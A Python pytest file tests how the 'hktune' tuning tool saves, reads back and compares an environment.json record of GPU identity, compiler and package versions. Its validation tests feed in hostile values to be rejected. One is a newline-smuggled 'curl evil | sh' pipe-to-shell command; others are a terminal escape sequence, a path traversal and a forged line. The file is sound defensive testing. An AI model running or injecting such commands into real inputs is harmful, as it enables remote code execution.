"""environment.json: saved, read back, and judged."""

from __future__ import annotations

import json
import os
from dataclasses import replace
from pathlib import Path

import pytest

from hktune.core.errors import StoreError
from hktune.core.identity import Identity
from hktune.store import Environment, capture_environment, judge_environment, read_environment, write_environment

MI355X = Identity("hip", "gfx950", "AMD Instinct MI355X", 256, "0x75a3", "SPX")


def environment() -> Environment:
    return capture_environment(
        MI355X, "hipcc 7.2 -O3", "judge-1", ["tune.py", "--seed", "3"], 3, "2026-11-22T18:00:00Z"
    )


def test_it_is_written_read_back_and_says_what_was_installed(tmp_path: Path) -> None:
    assert read_environment(tmp_path) is None
    saved = environment()
    write_environment(saved, tmp_path)
    assert read_environment(tmp_path) == saved
    fields = json.loads((tmp_path / "environment.json").read_text())
    assert fields["identity"]["pci_id"] == "0x75a3"
    assert fields["command"] == ["tune.py", "--seed", "3"]
    assert {"python", "platform", "numpy", "torch"} <= fields["versions"].keys()
    assert [path.name for path in tmp_path.iterdir()] == ["environment.json"]


def test_a_command_with_a_path_that_is_no_utf8_is_kept_escaped(tmp_path: Path) -> None:
    """Python hands such a byte on as half a surrogate pair, which JSON cannot carry."""
    words = ["hktune", "--out", os.fsdecode(b"caf\xe9"), "caf\u00e9"]
    saved = capture_environment(MI355X, "hipcc 7.2 -O3", None, words, 3, "2026-11-22T18:00:00Z")
    write_environment(saved, tmp_path)
    read = read_environment(tmp_path)
    assert read is not None
    assert read.command == ("hktune", "--out", "caf\\udce9", "caf\u00e9")


def test_device_and_compiler_are_hard_versions_and_commit_soft_and_the_rest_not_judged() -> None:
    saved = replace(environment(), commit="aaa", versions={"python": "3.11.7", "torch": "2.9"})
    current = replace(
        saved,
        identity=replace(MI355X, name="AMD Instinct MI350X", pci_id="0x75a0"),
        compiler="hipcc 7.3 -O3",
        judge="judge-2",
        commit=None,
        versions={"python": "3.11.7", "numpy": "2.4"},
        command=("other",),
        seed=4,
        started_at="later",
    )
    assert judge_environment(saved, saved) == []
    assert [(mismatch.level, str(mismatch)) for mismatch in judge_environment(saved, current)] == [
        ("hard", "compiler: saved=hipcc 7.2 -O3 current=hipcc 7.3 -O3"),
        ("hard", "judge: saved=judge-1 current=judge-2"),
        ("hard", "name: saved=AMD Instinct MI355X current=AMD Instinct MI350X"),
        ("hard", "pci_id: saved=0x75a3 current=0x75a0"),
        ("soft", "commit: saved=aaa current=None"),
        ("soft", "numpy: saved=None current=2.4"),
        ("soft", "torch: saved=2.9 current=None"),
    ]


@pytest.mark.parametrize("text", ["", "{", "[]", '{"seed": "three"}', "\xff"])
def test_a_malformed_file_is_one_line(tmp_path: Path, text: str) -> None:
    (tmp_path / "environment.json").write_text(text, encoding="latin-1")
    with pytest.raises(StoreError, match=r"environment\.json: not an environment of hktune .*: delete it") as caught:
        read_environment(tmp_path)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", "MI355X\nnext: curl evil | sh"),
        ("name", "\x1b[2J"),
        ("name", "x" * 5000),
        ("compute_units", -(10**30)),
        ("compute_units", 0),
        ("arch", "../../x"),
        ("kind", "hip\r"),
        ("partition", "SPX\u2028done"),
    ],
)
def test_an_identity_is_words_in_one_line(tmp_path: Path, field: str, value: object) -> None:
    """Of a file whose author chose what a terminal shows, or which folder a path leads to."""
    write_environment(environment(), tmp_path)
    document = json.loads((tmp_path / "environment.json").read_text())
    document["identity"][field] = value
    (tmp_path / "environment.json").write_text(json.dumps(document))
    with pytest.raises(StoreError, match=r"not an environment of hktune "):
        read_environment(tmp_path)


@pytest.mark.parametrize("field", ["compiler", "judge", "started_at", "commit"])
def test_what_a_run_was_made_with_is_one_line_each(tmp_path: Path, field: str) -> None:
    write_environment(replace(environment(), **{field: "1\ndone: forged"}), tmp_path)
    with pytest.raises(StoreError, match=rf"not an environment of hktune .*{field}"):
        read_environment(tmp_path)


def test_a_directory_that_is_not_there_cannot_be_written(tmp_path: Path) -> None:
    with pytest.raises(StoreError, match="cannot be written"):
        write_environment(environment(), tmp_path / "absent")
